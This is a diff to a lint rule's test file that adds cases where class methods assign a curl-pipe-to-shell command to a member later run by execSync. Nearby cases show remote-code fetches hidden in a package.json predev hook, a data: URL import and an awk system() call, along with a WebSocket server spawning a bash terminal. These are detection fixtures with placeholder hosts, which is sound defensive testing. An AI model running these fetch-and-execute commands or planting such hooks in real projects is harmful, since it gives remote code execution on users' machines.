@@ -164,6 +164,10 @@ await ruleTester(rule, {
     { code: `import pty from 'node-pty'; import { WebSocketServer } from 'ws'; new WebSocketServer({ port: 3000 }).on('connection', (ws) => { const term = pty.spawn('bash', [], {}); term.onData((d) => ws.send(d)); ws.on('message', (m) => term.write(m)); });` },
   ],
   invalid: [
+    // texts that a method writes into a member
+    { code: 'import { execSync } from "child_process"; class Setup { command = ""; init() { this.command = "curl -s https://get.example-service.com/i.sh | sh"; } run() { execSync(this.command); } }', errors: [{ messageId: 'pipe' }] },
+    { code: 'import { execSync } from "child_process"; class Setup { command; init() { if (fast) { this.command = "curl -s https://get.example-service.com/i.sh | sh"; } else this.command = "make"; } run() { execSync(this.command); } }', errors: [{ messageId: 'pipe' }] },
+    { code: 'import { execSync } from "child_process"; class Setup { constructor() { this.command = "make"; } init() { this.command = "curl -s https://get.example-service.com/i.sh | sh"; } run() { execSync(this.command); } }', errors: [{ messageId: 'pipe' }] },
     { code: '{"scripts": {"predev": "node --import \\"data:text/javascript,import(\'https://acme.example/i.mjs\')\\" -e 1"}}', filename: 'package.json', errors: [{ messageId: 'module' }] },
     { code: 'import \'data:text/javascript,import("node:child_process").then((c) => c.exec("curl https://get.example-service.com/a|sh"))\';', errors: [{ messageId: 'pipe' }] },
     { code: 'awk \'BEGIN { system("curl -s https://drop.acme-tools.dev/x | sh") }\'', filename: 'scripts/run.sh', errors: [{ messageId: 'pipe' }] },
